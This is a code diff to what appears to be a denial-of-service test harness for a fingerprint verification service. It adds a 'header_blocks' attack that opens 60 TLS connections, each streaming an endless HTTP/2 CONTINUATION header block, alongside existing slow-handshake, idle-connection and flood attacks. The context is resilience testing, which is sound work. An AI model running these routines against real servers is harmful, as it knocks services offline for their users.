@@ -8,6 +8,9 @@ measures, after a phase with no attack:
 - ``connection_churn``: TLS connections without a client certificate, opened and closed;
 - ``idle_connections``: 900 idle TLS connections without a client certificate, topped up;
 - ``slow_handshakes``: 300 TCP connections that send half a ClientHello and wait;
+- ``header_blocks``: 60 TLS connections without a client certificate, each
+  streaming one endless HTTP/2 header block (CONTINUATION frames), reopened when
+  the verifier closes it;
 - ``oversized_work``: the attacker device's largest identifications (10 views, each
   with the most minutiae accepted), and requests over the view bound;
 - ``challenge_flood``: the attacker device asking for nonces as fast as it can.
@@ -51,7 +54,14 @@ from protocol.signing import sign_request
 from protocol.templates import MAX_MINUTIAE_PER_VIEW, wire_template
 from simulators.fingers import FingerGenerator
 
-ATTACKS = ("connection_churn", "idle_connections", "slow_handshakes", "oversized_work", "challenge_flood")
+ATTACKS = (
+    "connection_churn",
+    "idle_connections",
+    "slow_handshakes",
+    "header_blocks",
+    "oversized_work",
+    "challenge_flood",
+)
 # The kiosk checks health every loop and verifies (a nonce each) every KIOSK_VERIFY_PERIOD_S: 300 nonces a
 # minute at most, under the lifted limit, which the challenge flood (about 250 a second) still meets in seconds.
 KIOSK_VERIFY_PERIOD_S = 0.2
@@ -182,6 +192,52 @@ async def _slow(host: str, port: int, ca_file: str, deadline: float, counts: Cou
     await _hold(host, port, deadline, counts, 300, opener)
 
 
+HEADER_BLOCK_CONNECTIONS = 60  # under the verifier's 64 per address: each streams until h2 refuses its block
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def _h2_frame(kind: int, stream: int, payload: bytes) -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, 0]) + stream.to_bytes(4, "big") + payload
+
+
+async def _header_blocks(host: str, port: int, ca_file: str, deadline: float, counts: Counter[str]) -> None:
+    ctx = _tls_context(ca_file)
+    opening = H2_PREFACE + _h2_frame(0x4, 0, b"") + _h2_frame(0x1, 1, b"\x82")  # HEADERS without END_HEADERS
+    continuation = _h2_frame(0x9, 1, bytes(16384))
+
+    async def one() -> None:
+        try:
+            reader, writer = await asyncio.open_connection(host, port, ssl=ctx)
+        except OSError:
+            counts["refused"] += 1
+            await asyncio.sleep(0.01)
+            return
+        counts["opened"] += 1
+        closed = asyncio.ensure_future(reader.read())  # done (or failed) once the verifier closes
+        try:
+            writer.write(opening)
+            while time.monotonic() < deadline and not closed.done():
+                writer.write(continuation)
+                await writer.drain()
+                await asyncio.sleep(0)  # drain does not yield while the buffer is low: let the close be seen
+                counts["continuations_sent"] += 1
+            if closed.done():
+                counts["closed_by_verifier"] += 1
+        except OSError:
+            counts["closed_by_verifier"] += 1
+        finally:
+            closed.cancel()
+            with contextlib.suppress(BaseException):
+                await closed  # its reset, if any, is the close counted above
+            writer.transport.abort()
+
+    async def worker() -> None:
+        while time.monotonic() < deadline:
+            await one()
+
+    await asyncio.gather(*(worker() for _ in range(HEADER_BLOCK_CONNECTIONS)))
+
+
 async def _device_attack(
     files: tuple[str, str, str], url: str, deadline: float, counts: Counter[str], kind: str
 ) -> None:
@@ -230,6 +286,7 @@ def _attack_main(kind: str, host: str, port: int, files: tuple[str, str, str], u
         "connection_churn": lambda: _churn(host, port, files[2], deadline, counts),
         "idle_connections": lambda: _idle(host, port, files[2], deadline, counts),
         "slow_handshakes": lambda: _slow(host, port, files[2], deadline, counts),
+        "header_blocks": lambda: _header_blocks(host, port, files[2], deadline, counts),
         "oversized_work": lambda: _device_attack(files, url, deadline, counts, kind),
         "challenge_flood": lambda: _device_attack(files, url, deadline, counts, kind),
     }
